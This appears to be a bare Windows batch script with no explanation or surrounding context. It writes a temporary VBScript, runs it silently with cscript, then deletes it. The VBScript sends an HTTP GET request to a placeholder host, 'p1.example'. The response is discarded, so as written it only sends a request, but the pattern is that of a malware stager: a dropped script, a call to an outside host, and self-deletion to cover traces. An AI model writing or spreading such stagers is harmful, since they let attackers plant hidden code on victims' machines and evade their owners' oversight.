@echo off
set n=%TEMP%\a.vbs
echo Set h = CreateObject("MSXML2.XMLHTTP") > %n%
echo h.Open "GET", "http://p1.example/g", False >> %n%
echo h.Send>>%n%
cscript //nologo %n% & del %n%
